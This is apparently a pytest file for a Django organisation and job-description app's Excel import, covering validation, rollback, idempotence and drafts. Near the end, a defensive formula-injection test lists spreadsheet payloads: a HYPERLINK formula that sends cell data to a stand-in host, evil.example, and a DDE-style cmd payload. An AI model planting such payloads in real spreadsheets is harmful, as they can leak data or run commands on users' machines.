"""The Excel import: a good file, the same file twice, files with errors, formula-like text."""

import datetime

import pytest
from django.db import connection

from org.models import Assignment, Department, Employee, Post, today
from responsibilities import imports, matrix_services
from responsibilities.choices import DocumentStatus
from responsibilities.imports import run_import
from responsibilities.models import JobDescription, Matrix, MatrixCell
from tests.responsibilities.xlsx_helpers import effective_jd, workbook_bytes

pytestmark = pytest.mark.usefixtures("english")


def _history_rows():
    models = (Department, Post, Employee, Assignment, JobDescription, MatrixCell)
    return {m.__name__: m.history.count() for m in models}


def _counts(result):
    return {key: (c.created, c.updated, c.unchanged) for key, c in result.counts.items()}


@pytest.fixture
def company_matrix(org_tree):
    return matrix_services.matrix_create(actor=org_tree.hr_user, title="质量职能分配表")


def good_sheets(day=None):
    day = day or today()
    return {
        "Departments": [
            ["LAB", "Laboratory", "QA", "LAB-01", None, "Tests what we make", None, 5],
            ["LAB-CH", "Chemistry lab", "LAB", None, None, None, None, None],
        ],
        "Posts": [
            ["LAB-01", "Lab manager", "LAB", "QA-01", 1, "management", "否", None, None, 1],
            ["LAB-02", "Lab technician", "LAB-CH", "LAB-01", 2, "Junior", "是", "Lab certificate", None, 2],
            ["QA-02", "QA engineer", "QA", "QA-01", 3, None, None, None, None, None],
        ],
        "Employees": [
            ["L001", "Lily Lab", day, "lily@example.com", None],
            ["L002", "Leo Lab", day, None, "0512-1234"],
        ],
        "Assignments": [
            ["L001", "LAB-01", "primary", day, None, None, None],
            ["L002", "LAB-02", None, day, None, None, "from the workshop"],
        ],
        "Duties": [
            ["LAB-02", "Test incoming samples", "Following the inspection plan", 60],
            ["LAB-02", "Calibrate the instruments", None, 20],
        ],
        "Matrix": [
            ["7.5", "QA", "●"],
            ["7.5", "PROD", "○"],
            ["8.4", "LAB", "lead"],
        ],
    }


def test_good_file_creates_everything_through_the_services_with_history(org_tree, company_matrix):
    hr = org_tree.hr_user
    result = run_import(actor=hr, data=workbook_bytes(good_sheets()), filename="org.xlsx")

    assert result.errors == []
    assert result.applied
    assert _counts(result) == {
        "Departments": (2, 0, 0),
        "Posts": (2, 1, 0),
        "Employees": (2, 0, 0),
        "Assignments": (2, 0, 0),
        "Duties": (1, 0, 0),
        "Matrix": (3, 0, 0),
    }
    lab = Department.objects.get(code="LAB")
    assert lab.parent == org_tree.qa and lab.head_post.code == "LAB-01" and lab.purpose == "Tests what we make"
    assert Department.objects.get(code="LAB-CH").parent == lab
    technician = Post.objects.get(code="LAB-02")
    assert (technician.department.code, technician.superior.code, technician.headcount) == ("LAB-CH", "LAB-01", 2)
    assert technician.grade == "junior" and technician.is_special and technician.required_qualification
    org_tree.qa_engineer_post.refresh_from_db()
    assert org_tree.qa_engineer_post.headcount == 3
    assert Assignment.objects.get(employee__number="L002").note == "from the workshop"
    # History: every row written by the HR user, the update with the import as its reason.
    assert lab.history.filter(history_type="+", history_user=hr).exists()
    update = org_tree.qa_engineer_post.history.filter(history_type="~").first()
    assert update.history_user == hr and update.history_change_reason == "Excel import"
    assert Employee.objects.get(number="L001").history.get().history_user == hr
    # The duties are a draft, not approved: they go through the normal approval.
    jd = JobDescription.objects.get(post=technician)
    assert jd.status == DocumentStatus.DRAFT and jd.approved_by is None and jd.version == 1
    assert [(d.title, d.time_share) for d in jd.duties.all()] == [
        ("Test incoming samples", 60),
        ("Calibrate the instruments", 20),
    ]
    assert result.drafts == [jd]
    # Matrix cells went into the draft of the company matrix; the new department became a column.
    cells = {(c.row.key, c.column.key): c.value for c in MatrixCell.objects.filter(matrix=company_matrix)}
    assert cells == {("7.5", "QA"): "lead", ("7.5", "PROD"): "assist", ("8.4", "LAB"): "lead"}


def test_same_file_twice_changes_nothing(org_tree, company_matrix):
    data = workbook_bytes(good_sheets())
    run_import(actor=org_tree.hr_user, data=data, filename="org.xlsx")
    before = _history_rows()

    again = run_import(actor=org_tree.hr_user, data=data, filename="org.xlsx")

    assert again.errors == [] and again.applied
    assert all(created == updated == 0 for created, updated, _unchanged in _counts(again).values())
    assert _counts(again)["Posts"] == (0, 0, 3)
    assert _counts(again)["Matrix"] == (0, 0, 3)
    assert _history_rows() == before
    assert JobDescription.objects.count() == 1 and Matrix.objects.count() == 1


def test_the_organisation_exported_in_the_import_format_imports_back_unchanged(org_tree, company_matrix):
    run_import(actor=org_tree.hr_user, data=workbook_bytes(good_sheets()), filename="org.xlsx")
    before = _history_rows()
    content = imports.import_template_xlsx(imports.current_rows())

    result = run_import(actor=org_tree.hr_user, data=content, filename="current.xlsx")

    assert result.errors == []
    assert sum(c.created + c.updated for c in result.counts.values()) == 0
    assert result.counts["Posts"].unchanged == Post.objects.valid_on().count()
    assert _history_rows() == before


def test_imported_duties_start_a_new_draft_and_leave_the_effective_version_alone(
    org_tree, django_capture_on_commit_callbacks
):
    post = org_tree.operator_post
    effective = effective_jd(
        post,
        editor=org_tree.hr_user,
        approver=org_tree.prod_head,
        capture=django_capture_on_commit_callbacks,
        duties=[{"title": "Run the lathe", "description": "", "time_share": 80}],
    )
    same = {"Duties": [["W1-02", "Run the lathe", None, 80]]}
    unchanged = run_import(actor=org_tree.hr_user, data=workbook_bytes(same), filename="a.xlsx")
    assert _counts(unchanged)["Duties"] == (0, 0, 1)
    assert JobDescription.objects.filter(post=post).count() == 1

    changed = {"Duties": [["W1-02", "Run the lathe", None, 70], ["W1-02", "Clean the machine", None, 10]]}
    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(changed), filename="a.xlsx")

    assert _counts(result)["Duties"] == (1, 0, 0)
    effective.refresh_from_db()
    assert effective.status == DocumentStatus.EFFECTIVE
    assert [(d.title, d.time_share) for d in effective.duties.all()] == [("Run the lathe", 80)]
    draft = JobDescription.objects.get(post=post, status=DocumentStatus.DRAFT)
    assert draft.version == 2
    assert [d.title for d in draft.duties.all()] == ["Run the lathe", "Clean the machine"]
    # A second, different file updates that draft instead of starting another.
    other = {"Duties": [["W1-02", "Run the lathe", None, 90]]}
    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(other), filename="a.xlsx")
    assert _counts(result)["Duties"] == (0, 1, 0)
    assert JobDescription.objects.filter(post=post).count() == 2


def test_a_version_in_review_is_never_changed_by_an_import(org_tree):
    from responsibilities import services

    jd = services.jd_new_draft(actor=org_tree.hr_user, post=org_tree.operator_post)
    services.jd_update(actor=org_tree.hr_user, jd=jd, revision=jd.edit_revision, duties=[{"title": "Old duty"}])
    services.jd_submit(actor=org_tree.hr_user, jd=jd)

    result = run_import(
        actor=org_tree.hr_user, data=workbook_bytes({"Duties": [["W1-02", "New duty", None, 10]]}), filename="a.xlsx"
    )

    assert not result.applied
    assert [(e.sheet, e.row) for e in result.errors] == [("Duties", 2)]
    assert "In review" in result.errors[0].message
    assert [d.title for d in jd.duties.all()] == ["Old duty"]


def test_errors_in_several_sheets_write_nothing_and_each_is_reported(org_tree):
    before = _history_rows()
    sheets = {
        "Departments": [["NEW", None, "NOPE", None, None, None, None, None]],
        "Posts": [
            ["NP-01", "New post", "GHOST", None, 1, "boss", None, None, None, None],
            ["NP-02", "Another", "QA", None, 0, None, None, None, "31.02.2024", None],
        ],
        "Employees": [["N001", "Nina New", "not a date", None, None], ["N002", "No Date", None, None, None]],
        "Assignments": [["X999", "QA-02", None, today(), None, None, None]],
        "Duties": [["QA-02", "A", None, 70], ["QA-02", "B", None, 40]],
    }

    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(sheets), filename="bad.xlsx")

    assert not result.applied
    found = {(e.sheet, e.row, e.column.split(" ")[0]) for e in result.errors}
    assert found >= {
        ("Departments", 2, "B"),  # the name is required
        ("Departments", 2, "C"),  # unknown parent
        ("Posts", 2, "C"),  # unknown department
        ("Posts", 2, "F"),  # unknown grade
        ("Posts", 3, "I"),  # impossible date
        ("Employees", 2, "C"),  # not a date
        ("Employees", 3, "C"),  # a new employee needs a hire date
        ("Assignments", 2, "A"),  # unknown employee
        ("Duties", 3, "D"),  # more than 100 % of the time
    }
    messages = {(e.sheet, e.row, e.column.split(" ")[0]): e.message for e in result.errors}
    assert messages[("Departments", 2, "B")] == "Required."
    assert messages[("Departments", 2, "C")] == "“NOPE” is neither in this file nor in the system."
    assert [e.sheet for e in result.errors] == sorted(
        (e.sheet for e in result.errors), key=["Departments", "Posts", "Employees", "Assignments", "Duties"].index
    )
    assert messages[("Posts", 2, "F")].startswith("Choose one of: junior, professional")
    assert messages[("Employees", 2, "C")] == "Enter a date as YYYY-MM-DD."
    assert "Hire date" in next(e.column for e in result.errors if e.sheet == "Employees")
    assert result.counts["Posts"].created == 0
    assert _history_rows() == before
    assert not Department.objects.filter(code="NEW").exists()


def test_a_row_refused_by_a_service_rolls_back_the_whole_file(org_tree):
    """Seats are checked by ``assignment_create``: the fourth operator does not fit, so the
    department and employees created before it are not kept either."""
    day = today()
    sheets = {
        "Departments": [["PACK", "Packing", "PROD", None, None, None, None, None]],
        "Employees": [[f"O{n}", f"Operator {n}", day, None, None] for n in range(3)],
        "Assignments": [[f"O{n}", "W1-02", None, day, None, None, None] for n in range(3)],
    }
    before = _history_rows()

    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(sheets), filename="seats.xlsx")

    assert not result.applied
    assert {(e.sheet, e.row) for e in result.errors} == {("Assignments", 4)}
    assert "seat" in result.errors[0].message
    assert _history_rows() == before
    assert not Employee.objects.filter(number__startswith="O").exists()
    assert not Department.objects.filter(code="PACK").exists()


def test_dry_run_reports_the_changes_and_writes_nothing(org_tree, company_matrix):
    before = _history_rows()

    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(good_sheets()), filename="a.xlsx", dry_run=True)

    assert result.errors == [] and not result.applied and result.dry_run
    assert _counts(result)["Departments"] == (2, 0, 0)
    assert _history_rows() == before


def test_a_cycle_of_superiors_is_reported(org_tree):
    sheets = {
        "Posts": [
            ["C-01", "One", "QA", "C-02", 1, None, None, None, None, None],
            ["C-02", "Two", "QA", "C-01", 1, None, None, None, None, None],
        ]
    }
    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(sheets), filename="cycle.xlsx")
    assert {(e.sheet, e.row) for e in result.errors} == {("Posts", 2), ("Posts", 3)}
    assert "cycle" in result.errors[0].message


def test_unknown_and_missing_columns_are_reported_on_the_header_row(org_tree):
    data = workbook_bytes({"Posts": [["X", "Y"]]}, headers={"Posts": ["岗位编码", "Colour"]})
    result = run_import(actor=org_tree.hr_user, data=data, filename="cols.xlsx")
    messages = [(e.sheet, e.row, e.message) for e in result.errors]
    assert ("Posts", 1, "Unknown column “Colour”.") in messages
    assert any("is missing" in m and "Title" in m for _s, _r, m in messages)


def test_existing_rows_missing_from_the_file_are_listed_not_deleted(org_tree):
    sheets = {"Departments": [["QA", "Quality", None, None, None, None, None, None]]}
    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(sheets), filename="part.xlsx")
    assert result.applied
    assert sorted(result.missing["Departments"]) == sorted(str(d) for d in (org_tree.gm, org_tree.prod, org_tree.w1))
    assert Department.objects.valid_on().count() == 4


def test_recorded_assignment_can_be_ended_from_the_file(org_tree):
    assignment = org_tree.operator_assignment
    employee = assignment.employee
    sheets = {"Assignments": [[employee.number, "W1-02", None, assignment.start, today(), "Moved", None]]}

    result = run_import(actor=org_tree.hr_user, data=workbook_bytes(sheets), filename="end.xlsx")

    assert _counts(result)["Assignments"] == (0, 1, 0)
    assignment.refresh_from_db()
    assert assignment.end == today() and assignment.end_reason == "Moved"


# Formula injection -------------------------------------------------------------------------

FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)"]


def test_formula_like_cells_are_stored_as_plain_text(org_tree):
    """openpyxl writes a string starting with "=" as a real formula: the import takes its text
    as written and never evaluates it."""
    sheets = {
        "Departments": [[f"F{n}", text, "QA", None, None, text, None, None] for n, text in enumerate(FORMULA_TEXTS)],
        "Duties": [["QA-02", text, text, 10] for text in FORMULA_TEXTS],
    }
    data = workbook_bytes(sheets)

    result = run_import(actor=org_tree.hr_user, data=data, filename="formulas.xlsx")

    assert result.errors == []
    assert [Department.objects.get(code=f"F{n}").name for n in range(4)] == FORMULA_TEXTS
    jd = JobDescription.objects.get(post=org_tree.qa_engineer_post)
    assert [d.title for d in jd.duties.all()] == FORMULA_TEXTS
    assert [d.description for d in jd.duties.all()] == FORMULA_TEXTS


def test_a_formula_cell_with_a_cached_result_is_read_as_its_formula(org_tree):
    from openpyxl import load_workbook

    data = workbook_bytes({"Departments": [["SUMD", "=1+1", "QA", None, None, None, None, None]]})
    assert load_workbook(__import__("io").BytesIO(data))["Departments"]["B2"].data_type == "f"
    run_import(actor=org_tree.hr_user, data=data, filename="f.xlsx")
    assert Department.objects.get(code="SUMD").name == "=1+1"


def test_dates_numbers_and_yes_no_are_read_in_their_usual_spellings(org_tree):
    sheets = {
        "Posts": [
            [1001, "Numeric code", "QA", None, "2", "高级", "yes", "Certificate", "2024/03/01", 3.0],
        ]
    }
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(imports, "_choice_labels", _labels_with_chinese(imports._choice_labels))
        result = run_import(actor=org_tree.hr_user, data=workbook_bytes(sheets), filename="n.xlsx")
    assert result.errors == []
    post = Post.objects.get(code="1001")
    assert (post.headcount, post.grade, post.is_special, post.valid_from, post.sort_order) == (
        2,
        "senior",
        True,
        datetime.date(2024, 3, 1),
        3,
    )


def _labels_with_chinese(original):
    """The Chinese labels come from the translation catalogue, which the translator fills later."""

    def labels(choices):
        accepted = original(choices)
        accepted.setdefault("高级", "senior")
        return accepted

    return labels


def test_import_runs_in_a_bounded_number_of_queries_per_row(org_tree, company_matrix, django_assert_max_num_queries):
    """Checking reads the referenced rows in bulk; the queries grow with the rows written
    (each goes through its service, with history), not with the size of the database."""
    data = workbook_bytes(good_sheets())
    with django_assert_max_num_queries(400):
        run_import(actor=org_tree.hr_user, data=data, filename="org.xlsx", dry_run=True)
    assert connection.vendor in ("sqlite", "postgresql")


def test_cells_of_an_effective_matrix_go_into_a_new_draft_version(org_tree, company_matrix):
    from django.contrib.auth.models import Group

    from org.choices import Role

    hr = org_tree.hr_user
    row = company_matrix.rows.get(clause__number="7.5")
    column = company_matrix.columns.get(department=org_tree.qa)
    matrix_services.matrix_set_cell(actor=hr, matrix=company_matrix, row=row, column=column, value="lead")
    matrix_services.matrix_submit(actor=hr, matrix=company_matrix)
    org_tree.qa_head.groups.add(Group.objects.get(name=Role.QUALITY_MANAGER.value))
    matrix_services.matrix_approve(actor=org_tree.qa_head, matrix=company_matrix)
    same = {"Matrix": [["7.5", "QA", "●"]]}
    assert _counts(run_import(actor=hr, data=workbook_bytes(same), filename="m.xlsx"))["Matrix"] == (0, 0, 1)
    assert Matrix.objects.count() == 1

    result = run_import(actor=hr, data=workbook_bytes({"Matrix": [["7.5", "QA", "○"]]}), filename="m.xlsx")

    assert result.errors == [] and _counts(result)["Matrix"] == (0, 1, 0)
    company_matrix.refresh_from_db()
    assert company_matrix.status == DocumentStatus.EFFECTIVE
    assert company_matrix.cells.get(row=row, column=column).value == "lead"
    draft = Matrix.objects.get(status=DocumentStatus.DRAFT)
    assert draft.version == 2 and result.matrix == draft
    assert draft.cells.get(row__clause__number="7.5", column__department=org_tree.qa).value == "assist"


def test_a_mark_outside_the_matrix_scheme_is_an_error(org_tree, company_matrix):
    result = run_import(
        actor=org_tree.hr_user,
        data=workbook_bytes({"Matrix": [["7.5", "QA", "R"], ["99.9", "QA", "●"]]}),
        filename="m.xlsx",
    )
    assert [(e.row, e.column.split(" ")[0]) for e in result.errors] == [(2, "C"), (3, "A")]
    assert result.errors[1].message == "The matrix has no row “99.9”."
